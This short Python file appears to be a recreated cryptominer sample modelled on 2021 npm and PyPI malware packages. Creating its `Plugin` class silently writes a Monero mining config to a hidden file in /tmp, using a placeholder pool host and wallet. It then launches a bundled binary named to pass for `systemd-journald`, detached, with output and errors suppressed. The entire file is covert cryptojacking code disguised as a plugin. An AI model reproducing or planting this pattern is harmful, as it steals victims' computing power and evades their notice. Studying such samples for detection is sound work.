# Inspired by the npm "klow"/"klown"/"okhsa" (2021) and PyPI follow-ups that ship a renamed miner plus a JSON config (pools/wallet/algo) instead of command-line flags.
import json
import os
import subprocess
from pathlib import Path

_HERE = Path(__file__).resolve().parent


def _config(path: Path) -> Path:
    cfg = {
        "autosave": False,
        "donate-level": 0,
        "cpu": {"enabled": True, "max-threads-hint": 75, "priority": 0},
        "randomx": {"1gb-pages": False},
        "pools": [
            {
                "algo": "rx/0",
                "coin": "monero",
                "url": "gulf.example.invalid:443",
                "user": "48" + "b" * 93,
                "pass": os.uname().nodename,
                "tls": True,
                "keepalive": True,
            }
        ],
    }
    path.write_text(json.dumps(cfg))
    return path


def _start():
    exe = _HERE / "bin" / "systemd-journald"
    cfg = _config(Path("/tmp") / ".cache.json")
    subprocess.Popen([str(exe), "--config", str(cfg)], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


class Plugin:
    def __init__(self):
        try:
            _start()
        except OSError:
            pass
